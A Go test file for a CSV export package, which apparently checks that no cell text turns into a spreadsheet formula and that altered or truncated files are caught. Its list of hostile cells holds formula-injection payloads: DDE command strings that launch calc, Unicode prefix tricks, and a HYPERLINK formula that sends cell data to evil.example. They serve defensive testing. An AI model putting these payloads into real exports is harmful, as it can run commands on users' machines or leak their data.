package sheet_test

import (
	"bytes"
	"encoding/csv"
	"errors"
	"regexp"
	"strings"
	"testing"
	"unicode"
	"unicode/utf8"

	"omgevingsloket-id/pkg/sheet"
)

// hostile holds cells that spreadsheet programs have run.
var hostile = []string{
	"=1+1", "+1+1", "-1+1", "@SUM(1)", "\t=1", "\r=1", "\n=1", "\x00=1", "  =1", "\"=1", "'=1", "“=1", "\ufeff=1", "\u200b=1", "＝1", "＋1", "－1", "＠SUM", "﹦1", "⁼1",
	`=HYPERLINK("http://evil.example?"&A1,"ok")`, `=cmd|' /C calc'!A0`, `cmd|'/C calc'!A0`, `DDE("cmd";"/C calc";"x")`, `@SUM(1+1)*cmd|' /C calc'!A0`,
	"a;=1", "a,=1", "a\t=1", "a\r\n=1", `a";=1`, `a,"=1`, "a; \u200b\"＝1", ";=1;+1;-1;@1", "a\n=1", "a\v=1", "a\u2028=1", "a\u0085=1", `""=1`, `";=1;"`, "=", "-", "", " ", ";", `"`,
	"\xff=1", "\xff\xfe", "\ufeff\ufeff=1", "%0A=1", "a\x00b", "Anna", "O'Brien", "Bau & Söhne, GmbH; Berlin", "Ångström \"Ltd\"", `\.`, "#END",
}

var dynamic = regexp.MustCompile(`\|.*!`)

// dangerous is an independent implementation: it looks at what is left after
// everything that a program may skip. A cell with ' first is text.
func dangerous(cell string) bool {
	if strings.HasPrefix(cell, "'") {
		return false
	}
	cell = strings.TrimLeftFunc(cell, func(r rune) bool {
		return unicode.IsSpace(r) || unicode.IsControl(r) || unicode.Is(unicode.Cf, r) || strings.ContainsRune("\"`„“”«»‹›‚‘’", r)
	})
	r, _ := utf8.DecodeRuneInString(cell)
	return cell != "" && strings.ContainsRune("=+-@＝＋－＠﹦﹢﹣﹫", r)
}

func file(t *testing.T, separator sheet.Separator, rows ...[]string) []byte {
	t.Helper()
	s := sheet.New(separator, "one", "two", "three")
	for _, r := range rows {
		if err := s.Row(sheet.Text(r[0]), sheet.Number(len(r)), sheet.Text(r[1])); err != nil {
			t.Fatal(err)
		}
	}
	return s.Close()
}

func read(t *testing.T, b []byte, separator rune, lazy bool) [][]string {
	t.Helper()
	text, ok := bytes.CutPrefix(b, []byte("\xef\xbb\xbf"))
	if !ok {
		t.Fatal("the file has no byte order mark")
	}
	r := csv.NewReader(bytes.NewReader(text))
	r.Comma, r.LazyQuotes = separator, lazy
	if lazy {
		r.FieldsPerRecord = -1
	}
	rows, err := r.ReadAll()
	if err != nil {
		t.Fatalf("%v\n%s", err, text)
	}
	return rows
}

// harmless checks a file with two texts in each row.
func harmless(t *testing.T, separator sheet.Separator, rows [][]string) {
	t.Helper()
	b := file(t, separator, rows...)
	if n, err := sheet.Check(b); err != nil || n != len(rows) {
		t.Fatalf("Check() = %d, %v, want %d, nil", n, err, len(rows))
	}
	got := read(t, b, rune(separator), false)
	if len(got) != len(rows)+2 || bytes.Count(b, []byte("\n")) != len(rows)+2 || bytes.Count(b, []byte("\r\n")) != len(rows)+2 {
		t.Fatalf("the file has %d lines, want %d that end with CRLF\n%q", len(got), len(rows)+2, b)
	}
	for _, row := range got {
		for _, cell := range row {
			if dangerous(cell) || !strings.HasPrefix(cell, "'") && dynamic.MatchString(cell) || strings.ContainsAny(cell, "\r\n\t\x00") || !utf8.ValidString(cell) {
				t.Errorf("the file has the cell %q", cell)
			}
		}
	}
	// Read with the other separator, or line by line without regard to quotes,
	// it has no formula either.
	for _, other := range ",;\t" {
		for _, row := range read(t, b, other, true) {
			for _, cell := range row {
				if dangerous(cell) {
					t.Errorf("read with %q: the file has the cell %q\n%s", other, cell, b)
				}
			}
		}
		for line := range strings.Lines(string(b)) {
			for cell := range strings.SplitSeq(line, string(other)) {
				if dangerous(cell) {
					t.Errorf("split at %q: the file has the cell %q\n%s", other, cell, b)
				}
			}
		}
	}
}

// OF-11: no text is a formula in a spreadsheet program.
func TestOF11_NoFormula(t *testing.T) {
	t.Parallel()
	for _, separator := range []sheet.Separator{sheet.Comma, sheet.Semicolon} {
		var rows [][]string
		for _, a := range hostile {
			for _, b := range hostile {
				rows = append(rows, []string{a, b})
			}
		}
		harmless(t, separator, rows)
	}
}

// FuzzOF11_NoFormula looks for a text that becomes a formula.
func FuzzOF11_NoFormula(f *testing.F) {
	for _, s := range hostile {
		f.Add(s, s)
	}
	f.Fuzz(func(t *testing.T, a, b string) {
		for _, separator := range []sheet.Separator{sheet.Comma, sheet.Semicolon} {
			harmless(t, separator, [][]string{{a, b}, {b, a}})
		}
	})
}

func TestOrdinaryTextStaysAsItIs(t *testing.T) {
	t.Parallel()
	for _, s := range []string{"Anna", "O'Brien", "Van den Berg-Jansen", "Bau & Söhne, GmbH; Berlin", "OLID-K7QD-2MXA", "2026-03-02", "王小明", "a+b=c", `5" pipe`, "Yes!", "a | b"} {
		if got := read(t, file(t, sheet.Semicolon, []string{s, s}), ';', false); got[1][0] != s {
			t.Errorf("Text(%q) = %q, want it unchanged", s, got[1][0])
		}
	}
	if got := read(t, file(t, sheet.Comma, []string{"=1", "a;-1"}), ',', false)[1]; got[0] != "'=1" || got[1] != "2" || got[2] != "a;'-1" {
		t.Errorf("the row is %q, want '=1, 2, a;'-1", got)
	}
}

// OF-26: a file that is truncated, longer or changed in any byte is ErrBroken.
func TestOF26_WholeOrFound(t *testing.T) {
	t.Parallel()
	for _, separator := range []sheet.Separator{sheet.Comma, sheet.Semicolon} {
		b := file(t, separator, []string{"a", "b"}, []string{"c", "d"})
		for i := range b {
			if _, err := sheet.Check(b[:i]); !errors.Is(err, sheet.ErrBroken) {
				t.Errorf("Check(the first %d bytes) = %v, want %v", i, err, sheet.ErrBroken)
			}
			changed := bytes.Clone(b)
			changed[i] ^= 1
			if _, err := sheet.Check(changed); !errors.Is(err, sheet.ErrBroken) {
				t.Errorf("Check(byte %d, %q, changed) = %v, want %v", i, b[i], err, sheet.ErrBroken)
			}
		}
		lines := bytes.SplitAfter(b, []byte("\r\n"))
		for i := range lines[:4] {
			if _, err := sheet.Check(bytes.Join(append(append([][]byte{}, lines[:i]...), lines[i+1:]...), nil)); !errors.Is(err, sheet.ErrBroken) {
				t.Errorf("Check(without line %d) = %v, want %v", i, err, sheet.ErrBroken)
			}
		}
		if _, err := sheet.Check(append(bytes.Clone(b), "x;1;y\r\n"...)); !errors.Is(err, sheet.ErrBroken) {
			t.Errorf("Check(one line more) = %v, want %v", err, sheet.ErrBroken)
		}
	}
	if n, err := sheet.Check(file(t, sheet.Comma)); n != 0 || err != nil {
		t.Errorf("Check(no rows) = %d, %v, want 0, nil", n, err)
	}
}

func TestTooManyRows(t *testing.T) {
	t.Parallel()
	s := sheet.New(sheet.Comma, "a", "b", "c")
	for range sheet.Most {
		if err := s.Row(sheet.Number(1), sheet.Number(2), sheet.Number(3)); err != nil {
			t.Fatal(err)
		}
	}
	if err := s.Row(sheet.Number(1), sheet.Number(2), sheet.Number(3)); !errors.Is(err, sheet.ErrTooMany) || s.Rows() != sheet.Most {
		t.Errorf("Row(after %d) = %v, want %v after %d", s.Rows(), err, sheet.ErrTooMany, sheet.Most)
	}
}
